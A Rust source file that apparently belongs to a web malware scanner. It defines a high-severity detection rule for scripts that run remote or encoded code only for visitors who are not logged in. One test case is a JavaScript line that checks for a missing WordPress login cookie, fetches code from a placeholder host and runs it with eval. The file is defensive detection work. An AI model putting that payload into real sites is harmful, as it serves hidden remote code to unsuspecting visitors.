//! `code-unless-signed-in`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "code-unless-signed-in",
    description: "The script runs code from a server or from encoded text, but only for visitors who are not signed in.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::SignedIn]),
        one(&[Atom::RemoteRun, Atom::AnswerRun, Atom::ScriptFromCoded, Atom::CodedAnswerRun]),
    ],
    within: 300,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"if(document.cookie.indexOf('wordpress_logged_in')<0)fetch('https://c.example/a').then(r=>r.text()).then(t=>eval(t))"#,
        ],
        without: &[
            r#"if(document.cookie.indexOf('wordpress_logged_in')<0)fetch('/promo').then(r=>r.text()).then(show)"#,
            r#"if(document.cookie.indexOf('logged_in')<0)fetch('/session').then(r=>r.json()).then(d=>{location.href=d.url})"#,
        ],
    },
};
